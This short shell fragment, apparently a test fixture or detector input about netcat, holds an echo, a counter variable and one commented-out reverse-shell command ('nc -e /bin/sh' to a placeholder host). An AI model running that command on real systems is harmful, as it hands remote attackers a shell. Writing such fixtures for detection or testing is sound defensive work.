echo nc
nc_count=3
# nc -e /bin/sh x 1
